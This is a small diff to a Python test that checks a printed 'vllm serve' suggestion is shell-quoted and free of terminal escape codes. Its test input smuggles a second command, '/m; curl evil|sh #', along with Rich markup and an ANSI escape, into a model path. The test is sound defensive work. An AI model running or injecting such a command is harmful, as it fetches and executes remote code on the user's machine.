@@ -96,7 +96,7 @@ def printed(tmp_path, capsys, monkeypatch):
         (tmp_path / "training.json").write_text(json.dumps({**make_training(), **training}), encoding="utf-8")
         (tmp_path / "evaluation.json").write_text(json.dumps(evaluation), encoding="utf-8")
         monkeypatch.setenv("MLFLOW_TRACKING_URI", tracking)
-        print_summary(tmp_path, tmp_path)
+        print_summary(tmp_path)
         return capsys.readouterr().out
 
     return of
@@ -125,4 +125,4 @@ def test_printed_commands_are_quoted_and_nothing_reaches_the_terminal_as_code(pr
     assert "\x1b" not in out
     (line,) = (line for line in out.splitlines() if "serve it in vLLM" in line)
     words = shlex.split(line.partition("vLLM")[2])
-    assert words[:3] == ["vllm", "serve", "/m; curl evil|sh #[/x][red]\ufffd[31m"]
+    assert words[:3] == ["vllm", "serve", "/m; curl evil|sh #[/x][red]\\x1b[31m"]
